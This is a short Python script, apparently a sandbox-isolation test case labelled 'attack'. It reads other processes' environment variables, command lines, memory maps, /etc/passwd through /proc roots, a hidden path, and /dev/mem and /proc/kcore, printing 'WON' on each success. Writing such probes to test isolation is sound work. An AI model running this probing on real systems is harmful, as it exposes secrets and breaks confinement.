# /// attack
# says = "ran to its end"
# ///
"""Read what /proc tells of this process, its server, its keeper and everybody else."""

import os

for process in ("self", "thread-self", "1", str(os.getppid()), *map(str, range(2, 40))):
    for name in ("environ", "cmdline", "maps", "status", "mountinfo", "comm"):
        try:
            text = open(f"/proc/{process}/{name}", "rb").read()
            print("WON:", process, name, text[:300])
        except OSError:
            pass
    for name in ("cwd", "root", "exe", "fd/0", "fd/3"):
        try:
            print("link", process, name, os.readlink(f"/proc/{process}/{name}"))
        except OSError:
            pass
    for name in ("root/etc/passwd", "root" + PATHS["hidden"], "fd"):
        try:
            print("WON:", process, name, os.listdir(f"/proc/{process}/{name}"))
        except OSError:
            pass
for name in (
    "/proc/mounts",
    "/proc/cpuinfo",
    "/proc/net/tcp",
    "/sys/kernel/notes",
    "/proc/kcore",
    "/dev/kmsg",
    "/dev/mem",
):
    try:
        print("WON:", name, open(name, "rb").read(200))
    except OSError:
        pass
raise RuntimeError("the search ran to its end")
